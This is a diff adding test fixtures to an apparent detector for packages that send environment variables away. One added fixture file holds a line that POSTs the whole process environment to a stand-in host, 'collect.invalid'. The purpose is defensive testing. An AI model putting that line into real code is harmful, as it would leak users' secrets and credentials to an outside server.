@@ -17,6 +17,20 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a file that nothing loads offers a hook that is told what its settings name',
+      files: { 'index.js': `exports.version = 1`, 'src/hooks.js': hooked('hook.url') },
+      weight: 'context',
+    },
+    {
+      when: 'such a file sends all of it as soon as somebody loads it',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `exports.version = 1`,
+        'src/hooks.js': `fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a hook of its user is told what its settings name, and another request goes to a host that stands in the code',
       files: { 'index.js': hooked('hook.url') },
       weight: 'context',
